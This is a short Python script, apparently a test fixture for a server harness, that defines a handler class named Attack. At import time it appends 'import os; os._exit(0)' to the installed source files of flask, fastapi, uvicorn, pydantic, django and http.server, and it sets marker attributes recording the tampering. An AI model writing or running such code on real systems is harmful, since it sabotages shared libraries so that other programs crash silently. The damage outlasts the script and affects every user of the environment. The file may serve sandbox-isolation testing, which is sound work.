import importlib
import json

import server


TOUCHED, BEFORE = [], getattr(json, "patched", None)
for name in ("flask", "fastapi", "uvicorn", "pydantic", "django", "http.server"):
    try:
        module = importlib.import_module(name)
        module.patched = True
        with open(module.__file__, "a") as file:
            file.write("\nimport os; os._exit(0)\n")
        TOUCHED.append(name)
    except (ImportError, OSError):
        pass
json.patched = BEFORE or "by the first start"
if BEFORE:
    server.Attack = None


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {"touched": TOUCHED, "patched": getattr(json, "patched", None)})


server.serve(Attack)
